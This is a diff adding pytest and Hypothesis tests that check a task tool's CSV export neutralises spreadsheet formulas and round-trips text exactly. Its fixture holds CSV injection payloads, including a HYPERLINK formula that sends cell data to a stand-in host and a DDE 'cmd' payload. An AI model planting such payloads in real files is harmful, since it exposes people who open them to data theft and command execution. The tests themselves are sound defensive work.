@@ -9,6 +9,8 @@ import json
 from pathlib import Path
 
 import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
 
 from prosper_coop.core.errors import ExitCode, InvalidInputError, ValidationError
 from prosper_coop.core.localconfig import local_actor
@@ -16,7 +18,7 @@ from prosper_coop.core.study import Study
 from prosper_coop.tasks import csvio, ops
 from prosper_coop.workspace import create_study
 from tests.helpers import git, head
-from tests.tasks.example_tasks import next_task_id, task_count
+from tests.tasks.example_tasks import load_tasks, next_task_id, task_count
 
 TODAY = dt.date(2026, 11, 26)
 
@@ -164,3 +166,87 @@ def test_export_formats(example_study: Study) -> None:
         csvio.export_tasks(example_study, "xlsx")
     with pytest.raises(InvalidInputError, match="no file"):
         csvio.import_csv(example_study, Path("missing.csv"), today=TODAY)
+
+
+# -- formulas (OWASP CSV injection) and exact round trips ------------------------------------
+HOSTILE_TITLES = {
+    "T-0001": '=HYPERLINK("http://e.x/?d="&A1,"Click for details")',
+    "T-0002": "+cmd|' /C calc'!A0",
+    "T-0003": "@SUM(1+1)",
+    "T-0004": "-2+3 people came",
+    "T-0005": "'=1+1 was typed with a quote",
+    "T-0006": "Plain title, left as it is",
+}
+
+
+def test_formula_cells_are_neutralised_and_come_back_exactly(
+    example_study: Study, sealed_env
+) -> None:
+    for task_id, title in HOSTILE_TITLES.items():
+        ops.edit_task(example_study, task_id, today=TODAY, title=title)
+    # A cell made elsewhere with a leading tab (a way some tools neutralise formulas)
+    # is kept exactly: taking the tab away would make it a formula.
+    waiting = next(t for t in load_tasks(example_study) if t.status == "todo")
+    typed = sealed_env / "typed.csv"
+    typed.write_text(
+        f"id,wp,title,status,blocked_reason\n{waiting.id},{waiting.wp},x,blocked,\t=1+1\n",
+        encoding="utf-8",
+    )
+    csvio.import_csv(example_study, typed, today=TODAY)
+    waiting = waiting.id
+    original = csvio.export_tasks(example_study, "json")
+    exported = csvio.export_tasks(example_study, "csv")
+    rows = {row["id"]: row for row in csv.DictReader(io.StringIO(exported))}
+    for row in rows.values():
+        for cell in row.values():
+            assert not cell.startswith(csvio.FORMULA_STARTS), cell
+    for task_id, title in HOSTILE_TITLES.items():
+        expected = title if task_id == "T-0006" else "'" + title
+        assert rows[task_id]["title"] == expected
+    assert rows[waiting]["blocked_reason"] == "'\t=1+1"
+
+    path = sealed_env / "tasks.csv"
+    path.write_text(exported, encoding="utf-8")
+    other = _study_without_tasks(sealed_env / "other")
+    csvio.import_csv(other, path, today=TODAY)
+    assert csvio.export_tasks(other, "json") == original  # the leading tab is kept
+    tasks = {t["id"]: t for t in json.loads(original)}
+    assert tasks[waiting]["blocked_reason"] == "\t=1+1"
+
+
+def test_a_quote_typed_in_a_spreadsheet_marks_text(example_study: Study, sealed_env) -> None:
+    path = sealed_env / "typed.csv"
+    path.write_text("wp,title,blocked_reason\nWP3,'=1+1,'@home\nWP3,'quoted',x\n", "utf-8")
+    added = csvio.import_csv(example_study, path, today=TODAY).added
+    tasks = {t["id"]: t for t in json.loads(csvio.export_tasks(example_study, "json"))}
+    assert [tasks[i]["title"] for i in added] == ["=1+1", "'quoted'"]
+    assert tasks[added[0]]["blocked_reason"] == "@home"
+
+
+_TEXT = st.text(
+    alphabet=st.characters(blacklist_categories=("Cs",)),  # any text a YAML file can hold
+    max_size=40,
+)
+_STARTS = st.sampled_from(["", "=", "+", "-", "@", "\t", "\r", "'", "''", "'=", "' ", "\t=", " "])
+
+
+@given(
+    title=st.tuples(_STARTS, _TEXT).map("".join).filter(lambda t: t.strip()),
+    reason=st.tuples(_STARTS, _TEXT).map("".join),
+)
+@settings(max_examples=300, deadline=None)
+def test_csv_round_trip_keeps_every_text_exactly(title: str, reason: str) -> None:
+    from prosper_coop.tasks.models import Task
+
+    task = Task.model_validate(
+        {"id": "T-0001", "wp": "WP1", "title": title, "blocked_reason": reason, "created": TODAY}
+    )
+    record = task.model_dump(mode="json")
+    text = csvio.to_csv([record])
+    for line in csv.reader(io.StringIO(text, newline="")):
+        for cell in line:
+            assert not cell.startswith(csvio.FORMULA_STARTS)
+    [(row, cells)] = csvio.read_rows(text, "tasks.csv")
+    back = csvio.fields_from_row({"id": "T-0001"}, cells, "tasks.csv", row)
+    assert Task.model_validate(back) == task
+    assert csvio.restore(csvio.neutralise(reason)) == reason
